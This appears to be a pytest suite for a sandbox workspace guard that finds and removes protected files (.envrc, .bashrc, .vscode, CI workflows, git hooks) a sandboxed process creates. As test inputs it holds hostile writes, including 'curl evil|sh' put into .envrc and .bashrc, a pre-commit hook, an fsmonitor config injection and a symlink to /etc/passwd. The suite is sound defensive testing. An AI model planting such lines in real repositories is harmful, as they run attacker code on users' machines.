"""The workspace guard, attacked from real sandboxes: nothing is pre-created in the user's tree,
every protected name a sandboxed process creates (at any depth, by any means) is removed and
reported, existing nested ones are mounted read-only, and ordinary dotfiles stay writable."""

# Host-side checks of small scratch trees; blocking is fine.
# ruff: noqa: ASYNC240

from __future__ import annotations

import fcntl
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import trio

from sandbox.guard import ProtectedNames, WorkspaceGuard, list_gitlinks, survey
from sandbox.host import SandboxHost
from sandbox.run import open_sandboxed_process, run_sandboxed
from sandbox.spec import DEFAULT_PROTECTED, SandboxSpec, WorkspaceRoot

PROTECTED = [p.path for p in DEFAULT_PROTECTED]
_GIT_ENV = {
    **os.environ,
    **dict.fromkeys(("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME"), "t"),
    **dict.fromkeys(("GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL"), "t@t"),
}


def _spec(ws: Path, **kwargs: object) -> SandboxSpec:
    values: dict[str, object] = {"workspaces": (WorkspaceRoot(path=ws),), "home": ws.parent}
    values.update(kwargs)
    return SandboxSpec.model_validate(values)


def _listing(root: Path) -> list[str]:
    """`find . -printf '%p %y %m'` without .git/objects."""
    out = subprocess.run(
        ["find", ".", "-path", "./.git/objects", "-prune", "-o", "-printf", "%p %y %m\n"],
        cwd=root,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    return sorted(out.splitlines())


def _repo(ws: Path) -> Path:
    ws.mkdir(parents=True, exist_ok=True)
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / "README.md").write_text("hello\n")
    return ws


@pytest.fixture
def repo(scratch: Path) -> Path:
    return _repo(scratch / "repo")


async def test_a_writable_sandbox_leaves_the_tree_untouched(host: SandboxHost, repo: Path) -> None:
    before = _listing(repo)
    result = await run_sandboxed(_spec(repo), ["sh", "-c", "ls -A; ls -A .git"], host=host)
    assert result.ok, result.stderr
    seen = result.stdout.decode().split()
    for name in (".bashrc", ".envrc", ".vscode", ".github", ".gitlab-ci.yml", ".gitmodules",
                 "modules", "commondir"):  # fmt: skip
        assert name not in seen, f"the sandbox sees a placeholder {name}"
    assert _listing(repo) == before


@pytest.mark.parametrize(
    "create",
    [
        "echo 'curl evil|sh' > .envrc",
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
        "mkdir -p .github/workflows && echo x > .github/workflows/ci.yml",
        "echo x > .gitlab-ci.yml",
        "echo x > .gitmodules",
        "echo 'curl evil|sh' > .bashrc",
        "echo x > .zshrc",
        "mkdir -p .idea",
        "mkdir -p .warren && echo x > .warren/policy.toml",
        "echo x > .git/commondir",
        "echo x > .git/config.worktree",
        "mkdir -p .git/modules/x",
        "mkdir -p sub && echo x > sub/.envrc",
        "mkdir -p a/b/c && cd a/b/c && mkdir .vscode",
        "mkdir -p sub && git init -q sub",
        "mkdir -p wt && echo 'gitdir: /elsewhere' > wt/.git",
        "mkdir -p lib/.github/workflows",
        "mkdir -p /tmp/x/deep && echo x > /tmp/x/deep/.envrc && echo y > /tmp/x/ok && "
        "cp -r /tmp/x moved",
        "mkdir -p stage/.vscode && mv stage elsewhere",
        "ln -s /etc/passwd .envrc",
        "mkfifo .envrc",
    ],
)
async def test_each_protected_creation_is_undone_and_reported(
    host: SandboxHost, repo: Path, create: str
) -> None:
    before = _listing(repo)
    result = await run_sandboxed(_spec(repo), ["sh", "-c", create], host=host)
    assert result.ok, result.stderr
    assert result.undone, "nothing reported"
    assert all("Warren removed" in m for m in result.undone)
    extra = sorted(set(_listing(repo)) - set(before))
    assert not any(
        part in {".envrc", ".vscode", "workflows", ".gitlab-ci.yml", ".gitmodules", ".bashrc",
                 ".zshrc", ".idea", ".warren", "commondir", "config.worktree", "modules", ".git"}
        for line in extra
        for part in line.split()[0].split("/")
    ), extra  # fmt: skip


async def test_ordinary_dotfiles_and_files_stay_writable(host: SandboxHost, repo: Path) -> None:
    script = (
        "echo x > .eslintrc && echo y > .editorconfig && mkdir -p .github && "
        "echo z > .github/CODEOWNERS && mkdir -p src && echo w > src/.bashrc && "
        "git add README.md"
    )
    result = await run_sandboxed(_spec(repo), ["sh", "-c", script], host=host)
    assert result.ok, result.stderr
    assert result.undone == ()
    assert (repo / ".eslintrc").read_text() == "x\n"
    assert (repo / ".github" / "CODEOWNERS").read_text() == "z\n"
    assert (repo / "src" / ".bashrc").read_text() == "w\n"  # rc files matter at the root only


async def test_existing_nested_protected_paths_are_read_only(host: SandboxHost, repo: Path) -> None:
    sub = _repo(repo / "vendor" / "sub")
    (repo / "pkg").mkdir()
    (repo / "pkg" / ".envrc").write_text("safe\n")
    hooks = sub / ".git" / "hooks"
    script = (
        "echo evil > pkg/.envrc; echo evil > vendor/sub/.git/hooks/pre-commit; "
        "echo '[core] fsmonitor=./x' >> vendor/sub/.git/config; "
        "mv vendor vendor2; echo done"
    )
    config = (sub / ".git" / "config").read_text()
    result = await run_sandboxed(_spec(repo), ["sh", "-c", script], host=host)
    assert b"done" in result.stdout
    assert (repo / "pkg" / ".envrc").read_text() == "safe\n"
    assert not (hooks / "pre-commit").exists()
    assert (sub / ".git" / "config").read_text() == config
    assert (repo / "vendor").is_dir() and not (repo / "vendor2").exists()


async def test_a_background_process_is_caught_at_the_next_check(
    host: SandboxHost, repo: Path
) -> None:
    before = _listing(repo)
    async with open_sandboxed_process(
        _spec(repo), ["sh", "-c", "read go; echo x > .envrc; echo made; read stop"], host=host
    ) as proc:
        assert proc.stdin is not None and proc.stdout is not None
        assert proc.check_changes() == []
        await proc.stdin.send_all(b"go\n")
        assert await proc.stdout.receive_some(100) == b"made\n"
        notes = proc.check_changes()
        assert notes and ".envrc" in notes[0]
        assert not os.path.lexists(repo / ".envrc")
        # And once more, after the last check: the teardown drains too.
        (repo / ".gitmodules").write_text("x")
        await proc.stdin.send_all(b"stop\n")
        await proc.wait()
    assert any(".gitmodules" in m for m in proc.undone)
    assert _listing(repo) == before


async def test_removal_never_follows_a_swapped_parent(scratch: Path) -> None:
    ws = scratch / "ws"
    outside = scratch / "outside"
    (ws / "sub").mkdir(parents=True)
    outside.mkdir()
    (outside / ".envrc").write_text("the user's own\n")
    guard = WorkspaceGuard.start([ws], PROTECTED)
    try:
        (ws / "sub" / ".envrc").write_text("x")
        shutil.rmtree(ws / "sub")
        (ws / "sub").symlink_to(outside)
        guard.drain()
    finally:
        guard.close()
    assert (outside / ".envrc").read_text() == "the user's own\n"


async def test_queue_overflow_falls_back_to_a_bounded_scan(scratch: Path) -> None:
    ws = scratch / "ws"
    ws.mkdir()
    guard = WorkspaceGuard.start([ws], PROTECTED)
    try:
        limit = int(Path("/proc/sys/fs/inotify/max_queued_events").read_text())
        for i in range(limit + 10):
            (ws / f"f{i}").touch()
        (ws / "deep").mkdir()
        (ws / "deep" / ".envrc").write_text("x")
        notes = guard.drain()
    finally:
        guard.close()
    assert any("deep/.envrc" in n for n in notes)
    assert not (ws / "deep" / ".envrc").exists()


def _commit_inner(repo: Path) -> None:
    _repo(repo / "inner")
    subprocess.run(["git", "-C", str(repo / "inner"), "add", "."], check=True)
    subprocess.run(
        ["git", "-C", str(repo / "inner"), "commit", "-qm", "x"], check=True, env=_GIT_ENV
    )


async def test_a_new_gitlink_in_the_index_is_reported(host: SandboxHost, repo: Path) -> None:
    _commit_inner(repo)
    result = await run_sandboxed(_spec(repo), ["git", "add", "inner"], host=host)
    assert result.ok, result.stderr
    assert any("gitlink inner" in m for m in result.undone), result.undone
    assert list_gitlinks(repo / ".git" / "index") == ["inner"]


def test_gitlinks_parse_in_every_index_version(scratch: Path) -> None:
    repo = _repo(scratch / "r")
    env = _GIT_ENV
    for name in ("a/deep/file.txt", "b.txt", "zz/top.txt"):
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(name)
    sha = subprocess.run(
        ["git", "-C", str(repo), "hash-object", "-w", "b.txt"], capture_output=True, text=True,
        check=True, env=env,
    ).stdout.strip()  # fmt: skip
    subprocess.run(["git", "-C", str(repo), "add", "."], check=True)
    subprocess.run(
        ["git", "-C", str(repo), "update-index", "--add", "--cacheinfo", f"160000,{sha},m/link"],
        check=True,
    )
    for version in ("2", "3", "4"):
        subprocess.run(
            ["git", "-C", str(repo), "update-index", "--index-version", version], check=True
        )
        assert list_gitlinks(repo / ".git" / "index") == ["m/link"], version


def test_survey_finds_nested_names_and_skips_git_objects(scratch: Path) -> None:
    ws = _repo(scratch / "ws")
    (ws / "x" / "y").mkdir(parents=True)
    (ws / "x" / "y" / ".envrc").write_text("")
    (ws / "x" / ".vscode").mkdir()
    (ws / ".git" / "objects" / "ab" / ".envrc").parent.mkdir(parents=True, exist_ok=True)
    (ws / ".git" / "objects" / "ab" / ".envrc").write_text("")
    found = survey([ws], ProtectedNames.of(PROTECTED))
    assert {ws / "x" / "y" / ".envrc", ws / "x" / ".vscode", ws / ".git" / "hooks"} <= set(
        found.protected
    )
    assert not any("objects" in str(p) for p in found.protected + found.directories)


def test_stale_placeholders_of_older_versions_are_swept(host: SandboxHost, scratch: Path) -> None:
    from sandbox.host import detect_host
    from sandbox.stubs import StubRegistry, StubRequest

    ws = scratch / "old"
    ws.mkdir()
    registry = StubRegistry(host.stub_dir)
    lease = registry.acquire([StubRequest(path=ws / ".envrc", kind="dir")])
    # An older Warren died holding it: forge a dead holder.
    state = host.stub_dir / "stubs.json"
    state.write_text(state.read_text().replace(lease.token.split(":")[0] + ":", "999999999:", 1))
    trio.run(lambda: detect_host(stub_dir=host.stub_dir))
    assert not (ws / ".envrc").exists()


def test_what_the_guard_takes_away_is_kept_when_it_can_be(scratch: Path) -> None:
    """An event does not say who made a path (the user's editor may make `.vscode` while a run
    is live): nothing is destroyed when it can be moved aside on the same file system."""
    ws = scratch / "ws"
    ws.mkdir()
    quarantine = scratch / "state" / "removed"
    guard = WorkspaceGuard.start([ws], PROTECTED, quarantine=quarantine)
    try:
        (ws / ".vscode").mkdir()
        (ws / ".vscode" / "settings.json").write_text("the user's settings")
        [note] = guard.drain()
    finally:
        guard.close()
    assert not (ws / ".vscode").exists()
    [kept] = quarantine.glob("*/.vscode/settings.json")
    assert kept.read_text() == "the user's settings"
    assert str(kept.parent) in note


def test_the_start_walk_removes_what_a_killed_write_left(tmp_path: Path) -> None:
    """A write killed between creating its temporary file and renaming it leaves
    `.<name>.warren-<hex>.tmp` beside the target; the next start removes exactly those
    (regular files named so), so the tree is as before the run. One a live write holds (its
    `flock`: another sandbox writes there) stays."""
    from policies.atomic import temporary_name as _temp_name

    ws = tmp_path / "ws"
    (ws / "sub").mkdir(parents=True)
    (ws / "sub" / "a.py").write_text("kept")
    stale = [ws / _temp_name("a.py"), ws / "sub" / _temp_name("a.py")]
    for path in stale:
        path.write_text("half a write")
    look_alikes = [
        ws / ".a.py.warren-notahexname.tmp",  # not the writer's pattern
        ws / "a.py.warren-0123456789ab.tmp",  # no leading dot
    ]
    for path in look_alikes:
        path.write_text("the user's")
    link = ws / ".b.py.warren-0123456789ab.tmp"
    link.symlink_to(ws / "sub" / "a.py")  # a link is never a temporary of ours
    live = ws / "sub" / _temp_name("b.py")  # a write in flight beside this sandbox: locked
    live.write_text("half a write, going on")
    writer = os.open(live, os.O_RDONLY)
    try:
        fcntl.flock(writer, fcntl.LOCK_EX)
        guard = WorkspaceGuard.start([ws.resolve()], PROTECTED)
        guard.close()
        assert live.read_text() == "half a write, going on"
    finally:
        os.close(writer)
    assert [p for p in stale if p.exists()] == []
    assert all(p.read_text() == "the user's" for p in look_alikes)
    assert link.is_symlink() and (ws / "sub" / "a.py").read_text() == "kept"


async def test_the_coordinators_own_policy_write_is_kept_and_the_sandboxs_is_not(
    host: SandboxHost, repo: Path
) -> None:
    """An "always" answer saves `.warren/policy.local.toml` from the coordinator while a
    writable sandbox runs: its guard keeps that file (and the new `.warren/` leading to it),
    but still undoes what the sandbox itself creates there afterwards."""
    from policies.files import save_remembered_rule
    from policies.trust import TrustStore

    store = TrustStore(repo.parent / "trust.json")
    async with open_sandboxed_process(
        _spec(repo), ["sh", "-c", "read go; echo x > .warren/policy.toml; echo made; read stop"],
        host=host,
    ) as proc:  # fmt: skip
        assert proc.stdin is not None and proc.stdout is not None
        saved = save_remembered_rule(repo, "Bash(make test:*)", trust_store=store)
        await trio.sleep(0.1)
        assert proc.check_changes() == []
        assert "make test" in saved.read_text()
        await proc.stdin.send_all(b"go\n")
        assert await proc.stdout.receive_some(100) == b"made\n"
        notes = proc.check_changes()
        assert notes and "policy.toml" in notes[0], notes
        await proc.stdin.send_all(b"stop\n")
        await proc.wait()
    assert not (repo / ".warren" / "policy.toml").exists()
    assert "make test" in (repo / ".warren" / "policy.local.toml").read_text()
